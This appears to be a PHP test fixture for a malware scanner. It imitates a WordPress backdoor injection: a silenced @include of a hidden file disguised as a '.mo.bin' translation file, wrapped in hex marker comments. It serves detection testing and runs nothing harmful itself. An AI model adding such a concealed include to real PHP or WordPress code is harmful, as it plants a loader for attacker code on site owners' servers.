<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
/*5c2e1*/

@include ("/home/example/public_html/wp-content/languages/.7e3a90d2.mo.bin");

/*5c2e1*/
